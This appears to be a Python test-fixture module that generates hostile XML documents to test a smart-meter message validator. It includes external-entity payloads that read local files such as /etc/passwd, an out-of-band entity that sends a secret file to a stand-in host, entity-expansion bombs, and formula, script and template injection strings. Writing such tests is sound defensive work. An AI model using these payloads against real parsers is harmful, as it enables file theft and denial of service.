"""XML made to harm whoever reads it. All of it is made here, of an invented request; no file of anybody's is copied."""

from collections.abc import Iterator
from itertools import product
from xml.sax.saxutils import quoteattr

from s1sr_validator.messages.xml import DUIS
from tests.invented import LOG, request_xml
from tests.invented_answers import REQUEST_ID, dcc_alert, s1sp_alert

PLAIN = request_xml(LOG, {"Depth": "1"}, header={"RequestID": REQUEST_ID})
ANSWER = dcc_alert(f"<sr:S1SPAlertDSP>{s1sp_alert('81C0')}</sr:S1SPAlertDSP>")
XSI = "http://www.w3.org/2001/XMLSchema-instance"
XINCLUDE = "http://www.w3.org/2001/XInclude"
MILLION = 1_000_000
FIELD = "<sr:Depth>1</sr:Depth>"


def places(secret: str) -> tuple[str, ...]:
    """Return addresses that a reader could be made to open: a file that exists in many spellings, and other machines."""
    return (
        f"file://{secret}",
        f"file:{secret}",
        f"file://localhost{secret}",
        secret,
        f"jar:file://{secret}!/x",
        f"netdoc:{secret}",
        f"php://filter/read=convert.base64-encode/resource={secret}",
        f"zip://{secret}#x",
        "http://127.0.0.1:9/x",
        "https://127.0.0.1:9/x",
        "ftp://127.0.0.1:9/x",
        "gopher://127.0.0.1:9/x",
        "ldap://127.0.0.1:9/x",
        "expect://id",
        "data:text/plain,invented",
        "//127.0.0.1/share/x",
        r"\\127.0.0.1\share\x",
    )


def hostile_xml(secret: str) -> dict[str, bytes]:
    """Return every document by a name that says what it does.

    Args:
        secret: the path of a file that nothing may open.
    """
    found = dict(_texts(secret))
    documents = {name: text.encode("utf-8", "surrogatepass") for name, text in found.items()}
    return documents | dict(_bytes())


def _texts(secret: str) -> Iterator[tuple[str, str]]:
    yield from _reaching_out(secret)
    yield from _bombs()
    yield from _large()
    yield from _namespaces()
    yield from _split_values()
    yield from _characters()
    yield from _broken()
    yield from _lying_answers()


def _reaching_out(secret: str) -> Iterator[tuple[str, str]]:
    entity = PLAIN.replace(">1<", ">&x;<")
    for number, place in enumerate(places(secret)):
        yield f"entity-{number}", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{place}">]>{entity}'
        yield f"public-entity-{number}", f'<!DOCTYPE r [<!ENTITY x PUBLIC "-//I//I" "{place}">]>{entity}'
        yield f"parameter-entity-{number}", f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{place}"> %x;]>{PLAIN}'
        yield f"dtd-{number}", f'<!DOCTYPE r SYSTEM "{place}">{PLAIN}'
        yield (
            f"notation-{number}",
            (f'<!DOCTYPE r [<!NOTATION n SYSTEM "{place}"><!ENTITY x SYSTEM "{place}" NDATA n>]>{PLAIN}'),
        )
        yield f"stylesheet-{number}", f'<?xml-stylesheet href="{place}" type="text/xsl"?>{PLAIN}'
        yield f"model-{number}", f'<?xml-model href="{place}"?>{PLAIN}'
        yield (
            f"schema-{number}",
            PLAIN.replace(" schemaVersion", f' xmlns:xsi="{XSI}" xsi:schemaLocation="{DUIS} {place}" schemaVersion'),
        )
        yield (
            f"bare-schema-{number}",
            PLAIN.replace(
                " schemaVersion", f' xmlns:xsi="{XSI}" xsi:noNamespaceSchemaLocation="{place}" schemaVersion'
            ),
        )
        for parse in ("xml", "text"):
            include = f'<xi:include xmlns:xi="{XINCLUDE}" parse="{parse}" href={quoteattr(place)}/>'
            yield f"include-{parse}-{number}", PLAIN.replace(FIELD, include + FIELD)
        yield f"base-{number}", PLAIN.replace(" schemaVersion", f' xml:base="{place}" schemaVersion')
        yield f"namespace-{number}", PLAIN.replace(" schemaVersion", f' xmlns:o="{place}" schemaVersion')
    stolen = (
        f'<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://127.0.0.1:9/?%f;\'>">'
    )
    yield "out-of-band", f"<!DOCTYPE r [{stolen}%e;%s;]>{PLAIN}"
    yield "error-based", f"<!DOCTYPE r [{stolen.replace('http://127.0.0.1:9/?', 'file:///no/')}%e;%s;]>{PLAIN}"


def _bombs() -> Iterator[tuple[str, str]]:
    entity = PLAIN.replace(">1<", ">&l9;<")
    laughs = "".join(f'<!ENTITY l{level + 1} "' + f"&l{level};" * 10 + '">' for level in range(9))
    yield "billion-laughs", f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}]>{entity}'
    with_attribute = PLAIN.replace(" schemaVersion=", " x='&l9;' schemaVersion=")
    yield "laughs-in-attribute", f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}]>{with_attribute}'
    yield "default-attribute-laughs", f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}<!ATTLIST r x CDATA "&l9;">]>{PLAIN}'
    parameters = "".join(f"<!ENTITY % p{level + 1} '" + f"&#37;p{level};" * 10 + "'>" for level in range(9))
    yield "parameter-laughs", f"<!DOCTYPE r [<!ENTITY % p0 'ha'>{parameters}%p9;]>{PLAIN}"
    often = PLAIN.replace(">1<", ">" + "&l9;" * 20_000 + "<")
    yield "quadratic", '<!DOCTYPE r [<!ENTITY l9 "' + "a" * 100_000 + '">]>' + often
    yield "endless", f'<!DOCTYPE r [<!ENTITY l9 "&m;"><!ENTITY m "&l9;">]>{entity}'
    yield "endless-parameter", f"<!DOCTYPE r [<!ENTITY % a '&#37;b;'><!ENTITY % b '&#37;a;'>%a;]>{PLAIN}"
    yield "endless-file", f'<!DOCTYPE r [<!ENTITY l9 SYSTEM "/dev/zero">]>{entity}'
    yield "endless-random", f'<!DOCTYPE r [<!ENTITY l9 SYSTEM "/dev/random">]>{entity}'
    wide = "|".join(f"a{number}" for number in range(100_000))
    yield "wide-content-model", f"<!DOCTYPE r [<!ELEMENT r ({wide})>]>{PLAIN}"
    yield "deep-content-model", "<!DOCTYPE r [<!ELEMENT r " + "(" * 100_000 + "a" + ")" * 100_000 + f">]>{PLAIN}"
    defaults = " ".join(f"a{number} CDATA 'x'" for number in range(10_000))
    yield "many-defaults", f"<!DOCTYPE r [<!ATTLIST sr:Depth {defaults}>]>{PLAIN}"


def _large() -> Iterator[tuple[str, str]]:
    for number in (101, 90_000, 250_000, MILLION):
        attributes = "".join(f" a{each:x}=''" for each in range(number))
        yield f"attributes-{number}", PLAIN.replace("<sr:Depth>", f"<sr:Depth{attributes}>")
        yield f"attributes-in-root-{number}", PLAIN.replace("<sr:Request", f"<sr:Request{attributes}")
    yield "many-with-attributes", PLAIN.replace(FIELD, ('<a b="1" c="2" d="3"/>' * 33_000))
    yield "one-long-attribute", PLAIN.replace("<sr:Depth>", '<sr:Depth a="' + "1" * 4 * MILLION + '">')
    yield "same-attribute", PLAIN.replace("<sr:Depth>", "<sr:Depth" + " a='1'" * 90_000 + ">")
    for depth in (99, 100, 101, 255, 257, 10_000, MILLION // 2):
        yield f"depth-{depth}", PLAIN.replace(FIELD, "<a>" * depth + "</a>" * depth)
    yield "depth-open", PLAIN.replace(FIELD, "<a>" * MILLION)
    yield "depth-open-namespaces", PLAIN.replace(FIELD, '<a xmlns="urn:a">' * 200_000)
    yield "siblings", PLAIN.replace(FIELD, "<a/>" * MILLION)
    yield "siblings-within", PLAIN.replace(FIELD, FIELD * 70_000)
    yield "services", PLAIN.replace("<sr:ReadInventedLog>", "<sr:ReadInventedLog/>" * 60_000 + "<sr:ReadInventedLog>")
    yield "headers", PLAIN.replace("<sr:Header>", "<sr:Header/>" * 70_000 + "<sr:Header>")
    yield "comments", PLAIN.replace(FIELD, "<!---->" * 700_000)
    yield "instructions", PLAIN.replace(FIELD, "<?a?>" * MILLION)
    yield "instructions-before", "<?a?>" * 140_000 + PLAIN
    yield "one-instruction", f"<?a {'b' * 4 * MILLION}?>{PLAIN}"
    yield "references", PLAIN.replace(">1<", ">" + "&#49;" * 900_000 + "<")
    yield "references-to-markup", PLAIN.replace(">1<", ">" + "&lt;" * MILLION + "<")
    yield "zeros-in-reference", PLAIN.replace(">1<", f">&#{'0' * 4 * MILLION}49;<")
    yield "white-space", PLAIN.replace(FIELD, " \t\r\n" * MILLION)
    yield "white-space-in-tags", PLAIN.replace("<sr:Depth>", "<sr:Depth" + "\n" * 4 * MILLION + ">")
    yield "lines", PLAIN.replace(FIELD, "\n" * 4 * MILLION + "<sr:Deep>")
    yield "digits", PLAIN.replace(">1<", f">{'9' * 4 * MILLION}<")
    yield "exponent", PLAIN.replace(">1<", f">1E{'9' * 400}<")
    yield "text", PLAIN.replace(FIELD, "a" * 4 * MILLION)
    yield "text-in-header", PLAIN.replace(REQUEST_ID, ":" * MILLION)
    yield "variant-digits", PLAIN.replace(f">{LOG}<", f">{'9.' * MILLION}9<")
    yield "date", PLAIN.replace(">1<", f">{'2' * MILLION}-01-01T00:00:00Z<")
    yield "long-name", PLAIN.replace("sr:Depth", "sr:D" + "e" * MILLION)
    yield "long-prefix", PLAIN.replace("sr:Depth", "s" * MILLION + ":Depth")
    yield (
        "long-namespace",
        PLAIN.replace("<sr:Depth>", '<sr:Depth xmlns:a="' + "u" * 900_000 + '">' + "<a:c/>" * 30_000),
    )
    yield "cdata", PLAIN.replace(">1<", f">{'<![CDATA[1]]>' * 300_000}<")
    yield "one-cdata", PLAIN.replace(">1<", f"><![CDATA[{']' * 4 * MILLION}]]><")
    yield "beyond-size", PLAIN.replace(FIELD, " " * (5 * 1024 * 1024 + 1))


def _namespaces() -> Iterator[tuple[str, str]]:
    yield (
        "declarations",
        PLAIN.replace("<sr:Depth>", "<sr:Depth" + "".join(f' xmlns:a{n}="u{n}"' for n in range(90_000)) + ">"),
    )
    yield "declarations-below", PLAIN.replace(FIELD, "".join(f'<a{n} xmlns="u{n}">' for n in range(95)) + "</a>")
    yield "undeclared-prefix", PLAIN.replace(FIELD, "<no:Depth/>")
    yield "undeclared-attribute-prefix", PLAIN.replace("<sr:Depth>", '<sr:Depth no:a="1">')
    yield "prefix-taken-over", PLAIN.replace(FIELD, '<sr:Depth xmlns:sr="urn:other">1</sr:Depth>')
    yield "same-namespace-twice", PLAIN.replace(FIELD, f'<o:Depth xmlns:o="{DUIS}">1</o:Depth>{FIELD}')
    yield "default-undeclared", PLAIN.replace(FIELD, '<Depth xmlns="">1</Depth>')
    yield "prefix-undeclared", PLAIN.replace(FIELD, '<sr:Depth xmlns:sr="">1</sr:Depth>')
    yield "two-colons", PLAIN.replace("sr:Depth", "sr:De:pth")
    yield "only-colon", PLAIN.replace("sr:Depth", ":")
    yield "xml-prefix", PLAIN.replace("sr:Depth", "xml:Depth")
    yield "xml-taken-over", PLAIN.replace("<sr:Depth>", '<sr:Depth xmlns:xml="urn:x">')
    yield "xmlns-declared", PLAIN.replace("<sr:Depth>", '<sr:Depth xmlns:xmlns="urn:x">')
    yield "alike-attributes", PLAIN.replace("<sr:Depth>", '<sr:Depth xmlns:a="u" xmlns:b="u" a:x="1" b:x="2">')
    yield "alike-namespace", PLAIN.replace(DUIS, DUIS + "/")
    yield "other-case-namespace", PLAIN.replace(DUIS, DUIS.upper())
    yield "space-in-namespace", PLAIN.replace(DUIS, f" {DUIS}")
    yield "braces-in-namespace", PLAIN.replace(DUIS, f"{DUIS}}}Request{{")
    yield "no-namespace", PLAIN.replace(f'xmlns:sr="{DUIS}"', "").replace("sr:", "")
    yield "default-namespace", PLAIN.replace("xmlns:sr", "xmlns").replace("sr:", "")
    yield (
        "wrapped",
        f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>{PLAIN}</s:Body></s:Envelope>',
    )
    yield "request-in-request", PLAIN.replace(FIELD, PLAIN)
    yield (
        "type-substituted",
        PLAIN.replace("<sr:Depth>", f'<sr:Depth xmlns:xsi="{XSI}" xsi:type="sr:Other" xsi:nil="true">'),
    )
    yield "duplicate-ids", PLAIN.replace(FIELD, '<sr:Depth xml:id="a">1</sr:Depth><sr:Depth xml:id="a">2</sr:Depth>')
    yield "id-no-name", PLAIN.replace("<sr:Depth>", '<sr:Depth xml:id="1 2" Id="x" ID="x">')


def _split_values() -> Iterator[tuple[str, str]]:
    """Texts that readers join in different ways: a signature once held over a text that another reader cut."""
    for name, inner in {
        "comment": "<!--x-->",
        "instruction": "<?x y?>",
        "cdata": "<![CDATA[]]>",
        "element": "<x/>",
    }.items():
        yield f"split-by-{name}", PLAIN.replace(">1<", f">1{inner}2<")
        yield f"split-id-by-{name}", PLAIN.replace(REQUEST_ID, REQUEST_ID.replace(":", f"{inner}:"))
        yield f"split-variant-by-{name}", PLAIN.replace(f">{LOG}<", f">{LOG[:2]}{inner}{LOG[2:]}<")
        yield f"empty-but-{name}", PLAIN.replace(">1<", f">{inner}<")
    yield "cdata-end-split", PLAIN.replace(">1<", "><![CDATA[]]]]><![CDATA[>]]><")
    yield "cdata-in-comment", PLAIN.replace(">1<", "><!--<![CDATA[-->1<!--]]>--><")
    yield "markup-in-cdata", PLAIN.replace(">1<", "><![CDATA[</sr:Depth><sr:Depth>2]]><")


def _characters() -> Iterator[tuple[str, str]]:
    strange = {
        "nul": "\0",
        "bell": "\a",
        "escape": "\x1b[2J\x1b]0;x\a",
        "delete": "\x7f",
        "next-line": "\x85",
        "line-separator": "\u2028",
        "right-to-left": "\u202e1\u2066",
        "zero-width": "1\u200b\u200d\ufeff",
        "surrogate": "\ud800",
        "surrogate-pair": "\ud83d\ude00",
        "not-a-character": "\ufffe\uffff",
        "beyond": "\U0010ffff",
        "tags": "\U000e0041",
        "arabic-digit": "\u0661",
        "full-width": "\uff11",
        "roman": "\u2160",
        "combining": "1" + "\u0301" * 5000,
        "ligature": "\ufdfa" * 100_000,
        "minus": "\u22121",
    }
    for name, text in strange.items():
        yield f"value-{name}", PLAIN.replace(">1<", f">{text}<")
        yield f"id-{name}", PLAIN.replace(REQUEST_ID, REQUEST_ID[:5] + text + REQUEST_ID[5:])
        yield f"name-{name}", PLAIN.replace("sr:Depth", f"sr:De{text}pth")
    for code in ("0", "1", "x0", "xD800", "xDFFF", "xFFFE", "xFFFF", "x110000", "xFFFFFFFFFF", "-1", "", "x", "9" * 30):
        yield f"reference-{code}", PLAIN.replace(">1<", f">&#{code};<")
    for injected in (
        "=1+1",
        "@x",
        "+1|cmd",
        "-1",
        "\t=1",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${x}",
        "%s%n",
        "'; --",
    ):
        yield f"injected-{ord(injected[0])}-{len(injected)}", PLAIN.replace(">1<", f">{injected.replace('<', '&lt;')}<")


def _broken() -> Iterator[tuple[str, str]]:
    for end in (1, 20, 100, len(PLAIN) // 2, len(PLAIN) - 1):
        yield f"cut-{end}", PLAIN[:end]
    yield "two-roots", PLAIN + PLAIN
    yield "text-after", PLAIN + "x"
    yield "text-before", "x" + PLAIN
    yield "crossed", PLAIN.replace(FIELD, "<a><b></a></b>")
    yield "late-declaration", " <?xml version='1.0'?>" + PLAIN
    yield "two-declarations", "<?xml version='1.0'?>" * 2 + PLAIN
    yield "xml-1.1", "<?xml version='1.1'?>" + PLAIN.replace(">1<", ">&#1;<")
    yield "version-2", "<?xml version='2.0'?>" + PLAIN
    yield "standalone-no", "<?xml version='1.0' standalone='no'?>" + PLAIN
    yield "reserved-instruction", PLAIN.replace(FIELD, "<?xml version='1.0'?>")
    yield "late-doctype", PLAIN.replace(FIELD, "<!DOCTYPE r>")
    yield "lower-doctype", "<!doctype r>" + PLAIN
    yield "double-dash", PLAIN.replace(FIELD, "<!-- a -- b -->")
    yield "html", "<!DOCTYPE html><html><body><p>Not found<br></body></html>"
    yield "svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    for root in ("Response", "S1SPAlert", "SMETS1SignedResponse", "DeviceAlertMessage", "Signature"):
        yield f"only-{root}", f'<sr:{root} xmlns:sr="{DUIS}"/>'
        yield f"only-{root}-with-body", f'<sr:{root} xmlns:sr="{DUIS}"><sr:Header/><sr:Body/></sr:{root}>'


def _lying_answers() -> Iterator[tuple[str, str]]:
    yield "answer", ANSWER
    yield "answer-within-answer", ANSWER.replace("<sr:S1SPAlertDSP>", f"<sr:S1SPAlertDSP>{ANSWER}")
    yield "answer-of-nobody", ANSWER.replace(REQUEST_ID, "")
    yield "answer-of-all", ANSWER.replace(REQUEST_ID, "::" + ":" * 5000)
    yield "answer-code", ANSWER.replace("81C0", "=HYPERLINK(1)")
    yield "answer-long-code", ANSWER.replace("81C0", "8" * 400_000)
    yield "answer-many", ANSWER.replace("<sr:S1SPAlertDSP>", "<sr:S1SPAlertDSP/>" * 60_000 + "<sr:S1SPAlertDSP>")
    for day in (
        "0000-00-00T00:00:00Z",
        "9999-12-31T23:59:60Z",
        "10000-01-01T00:00:00Z",
        "-0001-01-01T00:00:00+99:99",
        "2015-07-01",
    ):
        yield f"answer-day-{day}", ANSWER.replace("2015-07-01T10:15:30Z", day)


def _bytes() -> Iterator[tuple[str, bytes]]:
    plain = PLAIN.encode()
    marks = {"utf-8": b"\xef\xbb\xbf", "utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff", "utf-32-le": b"\xff\xfe\0\0"}
    declared = (
        "utf-8",
        "utf-16",
        "UTF-7",
        "latin-1",
        "EBCDIC-CP-US",
        "shift_jis",
        "ISO-2022-JP",
        "GB18030",
        "cp037",
        "no-such",
        "x" * 5000,
    )
    for (mark, start), encoding in product(marks.items(), declared):
        yield (
            f"{mark}-said-to-be-{encoding[:12]}",
            start + f"<?xml version='1.0' encoding='{encoding}'?>{PLAIN}".encode(mark),
        )
    for encoding in declared:
        yield f"no-mark-said-to-be-{encoding[:12]}", f"<?xml version='1.0' encoding='{encoding}'?>".encode() + plain
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-7", "cp037", "cp500", "shift_jis"):
        yield f"only-{encoding}", f"<?xml version='1.0' encoding='{encoding}'?>{PLAIN}".encode(encoding)
    doctype = f'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>{PLAIN.replace(">1<", ">&x;<")}'
    for encoding in ("utf-16", "utf-32", "utf-7", "cp037"):
        yield f"doctype-in-{encoding}", doctype.encode(encoding)
    yield "two-marks", marks["utf-8"] * 2 + plain
    yield "mark-alone", marks["utf-16-le"]
    yield "odd-utf-16", marks["utf-16-le"] + PLAIN.encode("utf-16-le") + b"\0"
    yield (
        "half-surrogate-utf-16",
        marks["utf-16-le"] + PLAIN.replace(">1<", ">\ud800<").encode("utf-16-le", "surrogatepass"),
    )
    yield "overlong-slash", plain.replace(b">1<", b">\xc0\xaf<")
    yield "overlong-less-than", plain.replace(b">1<", b">\xe0\x80\xbc<")
    yield "cut-character", plain.replace(b">1<", b">\xe2\x82<")
    yield "cesu-8", plain.replace(b">1<", b">\xed\xa0\xbd\xed\xb8\x80<")
    yield "five-bytes", plain.replace(b">1<", b">\xf8\x88\x80\x80\x80<")
    yield "latin-byte", plain.replace(b">1<", b">\xe9<")
    yield "empty", b""
    yield "blank", b" \r\n\t" * 1_000_000
    yield "nuls", bytes(4_000_000)
    yield "ff", b"\xff" * 4_000_000
    yield "less-than", b"<" * 4_000_000
    yield "ampersands", b"&" * 4_000_000
    yield "quotes", b"<a b='" + b'"' * 4_000_000
    yield "gzip", b"\x1f\x8b\x08" + bytes(100)
    yield "elf", b"\x7fELF" + bytes(100)
    yield "zip-start", b"PK\x03\x04" + bytes(100)
    yield "ole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
    yield "pdf", b"%PDF-1.7\n" + bytes(100)
